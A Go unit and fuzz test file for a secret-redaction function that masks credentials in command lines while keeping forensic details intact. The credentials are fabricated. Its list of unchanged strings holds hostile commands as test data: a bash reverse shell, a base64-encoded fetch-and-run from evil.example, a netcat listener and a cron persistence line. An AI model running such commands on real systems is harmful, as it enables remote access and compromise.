package report

import (
	"strings"
	"testing"
)

// The secrets are made up, and put together here so that no scanner of sources
// takes them for real.
const (
	fakePassword = "hunter2-" + "Corr3ct!"
	fakeGitHub   = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
	fakeSlack    = "xoxb-" + "17653672481-19874698323-pdFZKVeTuE8sk7oOcHrzzqgy"
	fakeAWSKey   = "AKIA" + "QYLPMN5HFIQR7XYA"
	fakeAWS      = "wJalrXUtnFEMIxK7MDENG+bPxRfiCY" + "zEXAMPLE42"
	fakeJWT      = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	fakeSession  = "IQoJb3JpZ2lu" + "X2VjEOj//////////wEaCWV1LXdlc3QtMSJHMEUCIQ"
)

func TestRedact(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"long flag", "psql --host db --password " + fakePassword + " -c select", "psql --host db --password [redacted] -c select"},
		{"long flag with =", "vault login --token=" + fakePassword + " --no-store", "vault login --token=[redacted] --no-store"},
		{"one dash", "java -Djavax.net.ssl.keyStorePassword=" + fakePassword + " -jar app.jar", "java -Djavax.net.ssl.keyStorePassword=[redacted] -jar app.jar"},
		{"flag, quoted", `tool --api-key "` + fakePassword + `" --port 80`, `tool --api-key "[redacted]" --port 80`},
		{"flag, quoted words", `tool --password "two words" --pass 'three more words' x`, `tool --password "[redacted]" --pass '[redacted]' x`},
		{"django and rails", "SECRET_KEY=toor SECRET_KEY_BASE=toor ./x", "SECRET_KEY=[redacted] SECRET_KEY_BASE=[redacted] ./x"},
		{"chpasswd", "sh -c echo root:toor | chpasswd", "sh -c echo root:[redacted] | chpasswd"},
		{"chpasswd, quoted", `echo "root:toor"|sudo /usr/sbin/chpasswd -c SHA512`, `echo "root:[redacted]"|sudo /usr/sbin/chpasswd -c SHA512`},
		{"sudo", "echo toor | sudo -n -S id; echo 'toor'|sudo -S id", "echo [redacted] | sudo -n -S id; echo '[redacted]'|sudo -S id"},
		{"bearer flag", "curl --oauth2-bearer toor https://api.example", "curl --oauth2-bearer [redacted] https://api.example"},
		{"authorization, escaped", `curl -H Authorization:\ Basic\ cm9vdDp0b29y x`, `curl -H Authorization:\ Basic\ [redacted] x`},
		{"mysql", "mysqldump -uroot -p" + fakePassword + " --all-databases", "mysqldump -uroot -p[redacted] --all-databases"},
		{"mysql by path, short", "/usr/bin/mysql -h db -u root -ptoor shop", "/usr/bin/mysql -h db -u root -p[redacted] shop"},
		{"unknown program, attached", "ourcli -pS3cr3tPass9 status", "ourcli -p[redacted] status"},
		{"sshpass", "sshpass -p toor ssh root@10.0.0.5", "sshpass -p [redacted] ssh root@10.0.0.5"},
		{"redis", "redis-cli -h cache -a toor KEYS x", "redis-cli -h cache -a [redacted] KEYS x"},
		{"docker login", "docker login -u ci -p toor registry.example", "docker login -u ci -p [redacted] registry.example"},
		{"curl user", "curl -s -u admin:toor https://shop.example/api", "curl -s -u admin:[redacted] https://shop.example/api"},
		{"curl user attached", "curl -uadmin:toor https://shop.example", "curl -uadmin:[redacted] https://shop.example"},
		{"curl --user=", "curl --user=admin:toor https://shop.example", "curl --user=admin:[redacted] https://shop.example"},
		{"smbclient", "smbclient //nas/x -U bob%toor", "smbclient //nas/x -U bob%[redacted]"},
		{"ldap", "ldapsearch -x -D cn=admin -w toor -b dc=x", "ldapsearch -x -D cn=admin -w [redacted] -b dc=x"},
		{"url", "git clone https://ci:" + fakePassword + "@git.example/x.git", "git clone https://ci:[redacted]@git.example/x.git"},
		{"url without a user", "redis://:toor@cache:6379/0", "redis://:[redacted]@cache:6379/0"},
		{"database url", "DATABASE_URL=postgres://shop:t%2Foor@db:5432/shop?sslmode=require ./app", "DATABASE_URL=postgres://shop:[redacted]@db:5432/shop?sslmode=require ./app"},
		{"token in a url", "https://x-access-token:" + fakeGitHub + "@github.com/x/y", "https://x-access-token:[redacted]@github.com/x/y"},
		{"token as user of a url", "https://" + fakeGitHub + "@github.com/x/y", "https://ghp_[redacted]@github.com/x/y"},
		{"environment", "env PGPASSWORD=toor AWS_SECRET_ACCESS_KEY=" + fakeAWS + " HOME=/root ./backup.sh", "env PGPASSWORD=[redacted] AWS_SECRET_ACCESS_KEY=[redacted] HOME=/root ./backup.sh"},
		{"environment, quoted", `MYSQL_PWD='two words' mysql shop`, `MYSQL_PWD=[redacted] mysql shop`},
		{"docker -e", "docker run -e DB_PASS=toor -p 8080:80 nginx", "docker run -e DB_PASS=[redacted] -p 8080:80 nginx"},
		{"systemd", "Environment=\"API_TOKEN=" + fakePassword + "\"", "Environment=\"API_TOKEN=[redacted]\""},
		{"json", `{"user":"shop","password":"toor","port":5432}`, `{"user":"shop","password":[redacted],"port":5432}`},
		{"yaml", "echo password: toor >> /etc/x.yml", "echo password: [redacted] >> /etc/x.yml"},
		{"connection string", "app Server=db;Database=shop;User Id=sa;Password=toor;Encrypt=true", "app Server=db;Database=shop;User Id=sa;Password=[redacted];Encrypt=true"},
		{"azure storage", "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=Zm9vYmFy/+==;EndpointSuffix=core.windows.net", "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=[redacted];EndpointSuffix=core.windows.net"},
		{"authorization", "curl -H Authorization: Bearer " + fakePassword + " https://api.example", "curl -H Authorization: Bearer [redacted] https://api.example"},
		{"authorization, quoted", `curl -H "Authorization: Basic cm9vdDp0b29y" https://api.example`, `curl -H "Authorization: Basic [redacted]" https://api.example`},
		{"authorization, bare", `curl -H 'authorization: ` + fakePassword + `' x`, `curl -H 'authorization: [redacted]' x`},
		{"signed request", "Authorization: AWS4-HMAC-SHA256 Credential=" + fakeAWSKey + "/20261124/eu-west-1/s3/aws4_request, SignedHeaders=host, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024", "Authorization: [redacted] SignedHeaders=host, Signature=[redacted]"},
		{"other headers", "curl -H X-Api-Key: toor -H PRIVATE-TOKEN: toor -H X-Vault-Token:toor x", "curl -H X-Api-Key: [redacted] -H PRIVATE-TOKEN: [redacted] -H X-Vault-Token:[redacted] x"},
		{"cookie", `curl -H "Cookie: session=abc; csrf=def" x`, `curl -H "Cookie: [redacted]" x`},
		{"presigned", "curl https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + fakeAWSKey + "%2F20261124&X-Amz-Expires=600&X-Amz-Security-Token=" + fakeSession + "&X-Amz-Signature=fe5f80f77d", "curl https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=[redacted]&X-Amz-Expires=600&X-Amz-Security-Token=[redacted]&X-Amz-Signature=[redacted]"},
		{"shared access signature", "azcopy https://x.blob.core.windows.net/c?sv=2022&sig=abc%3D&se=2027", "azcopy https://x.blob.core.windows.net/c?sv=2022&sig=[redacted]&se=2027"},
		{"aws configure", "aws configure set aws_secret_access_key " + fakeAWS, "aws configure set aws_secret_access_key [redacted]"},
		{"aws secret alone", "./x " + fakeAWS + " eu-west-1", "./x [redacted] eu-west-1"},
		{"aws key id", "./x " + fakeAWSKey, "./x AKIA[redacted]"},
		{"session token", "export T=" + fakeSession, "export T=[redacted]"},
		{"github", "echo " + fakeGitHub + " | gh auth login", "echo ghp_[redacted] | gh auth login"},
		{"github in a path", "/tmp/" + fakeGitHub + "/x", "/tmp/ghp_[redacted]/x"},
		{"slack", "SLACK=" + fakeSlack, "SLACK=xoxb-[redacted]"},
		{"slack webhook", "curl -d x https://hooks.slack.com/services/" + "T000/B000/abcdefgh", "curl -d x https://hooks.slack.com/services/[redacted]"},
		{"jwt", "app " + fakeJWT + " x", "app [redacted] x"},
		{"jwt that was cut", "app " + fakeJWT[:40] + "…", "app [redacted]…"},
		{"private key", "echo -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r\nZXk=\n-----END OPENSSH PRIVATE KEY----- > k", "echo [redacted private key] > k"},
		{"private key that was cut", "-----BEGIN RSA PRIVATE KEY----- MIIEow", "[redacted private key]"},
		{"password hash", "root:$6$ab.cd$Zk3hC6k1X9yU2v0aQ1:19000:0", "root:$6$[redacted]:19000:0"},
		{"usermod", "usermod -p $1$x$y root", "usermod -p [redacted] root"},
		{"openssl", "openssl enc -aes-256-cbc -pass pass:toor -in x", "openssl enc -aes-256-cbc -pass [redacted] -in x"},
		{"openssl key", "openssl rsa -passin pass:toor -in x", "openssl rsa -passin pass:[redacted] -in x"},
		{"sql", "mysql -e CREATE USER x IDENTIFIED BY 'toor'", "mysql -e CREATE USER x IDENTIFIED BY [redacted]"},
		{"netrc", "machine git.example login ci password toor", "machine git.example login ci password [redacted]"},
		{"npmrc", "//registry.npmjs.org/:_authToken=" + "npm_" + "abcdefghijklmnopqrstuvwxyz0123456789", "//registry.npmjs.org/:_authToken=[redacted]"},
		{"two at once", "app --password=toor --token toor2 --port 80", "app --password=[redacted] --token [redacted] --port 80"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := Redact(test.in)
			if got != test.want {
				t.Errorf("\ngot  %s\nwant %s", got, test.want)
			}
			if again := Redact(got); again != got {
				t.Errorf("a second time makes\n     %s\nof   %s", again, got)
			}
		})
	}
}

// What a responder needs stays as it is.
func TestRedactLeaves(t *testing.T) {
	for _, s := range []string{
		"",
		"bash -i >& /dev/tcp/198.51.100.23/443 0>&1",
		"/usr/sbin/sshd -D -o PasswordAuthentication=yes -o AuthorizedKeysFile=/root/.k",
		"/usr/bin/passwd root", "/etc/passwd", "/etc/passwd: changed", "/etc/pam.d/common-password", "/run/secrets/token",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"da39a3ee5e6b4b0d3255bfef95601890afd80709", "d41d8cd98f00b204e9800998ecf8427e",
		"i-0c1f7a2be94d03e55 ami-0c9f1d2e3b4a59687 lt-0c9f1d2e3b4a59687:7",
		"arn:aws:iam::111122223333:role/diffy-triage AROAQYLPMN5HFIQR7XYAB",
		"ssh -p 22 root@10.0.0.5", "ssh -p2222 host", "mkdir -p /var/tmp/.x", "cp -pr a b", "nmap -p1-1024 10.0.0.0/24", "nmap -p- host",
		"docker run -p 8080:80 -p 127.0.0.1:9000:9000 nginx", "gcc -pthread -pipe x.c", "ps -p 1", "tar -cpzf x.tgz /etc", "mysql -u root -p shop",
		"curl -s http://10.0.0.5:8080/x.sh -o /tmp/x.sh", "curl -u", "git clone ssh://git@github.com/x/y", "rsync -a a@b:/c d",
		"nc -lvnp 4444", "python3 -m http.server 8080", "/opt/shop/bin/api --config /etc/shop.yml --max-tokens 100 --token-ttl=3600",
		"/opt/shop/bin/api --password-file /run/secrets/db --bypass=1 --compass=north --secret-name db",
		"SSH_AUTH_SOCK=/run/user/0/agent", "proxy_pass http://127.0.0.1:8080;", "auth required pam_unix.so nullok try_first_pass",
		"systemd-tty-ask-password-agent --watch", "/usr/lib/systemd/systemd-logind", "ld.so.preload", "libpam-pwquality.so",
		"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx2v8QpWk3nS7fQeY1uZr4mT6bH9cLwDaXo0gVsKiNj ana@laptop",
		"/usr/lib/x86_64-linux-gnu/security/pam_deny.so", "usr/share/perl5/Debconf/Element/Noninteractive.pm",
		"1 of 11 hosts has this, no other does; it names a program that most hosts do not have, /usr/local/bin/cache-sync",
		"evidence cut after query 41 of 48", "SSM: TimedOut, DeliveryTimedOut", "token bucket filter",
		"echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaAo= | base64 -d | sh",
		"kworker/u8:2-events_unbound", "dbus-daemon --session --address=unix:path=/run/user/0/bus", "sk-update -x",
		"*/5 * * * * root /usr/local/bin/cache-sync >/dev/null 2>&1",
	} {
		if got := Redact(s); got != s {
			t.Errorf("\ngot  %s\nwant %s", got, s)
		}
	}
}

// However long a value is, redacting takes time in proportion.
func FuzzRedact(f *testing.F) {
	for _, s := range []string{"mysql -pX --password Y", "a://b:c@d", "Authorization: Basic x", "x=y;Password=z;", fakeAWS, "-----BEGIN PRIVATE KEY-----"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Redact(s)
		if strings.Contains(s, "\n") || strings.Contains(got, "\x00") {
			return
		}
		if again := Redact(got); Redact(again) != again {
			t.Errorf("%q never comes to rest: %q, %q", s, got, again)
		}
	})
}
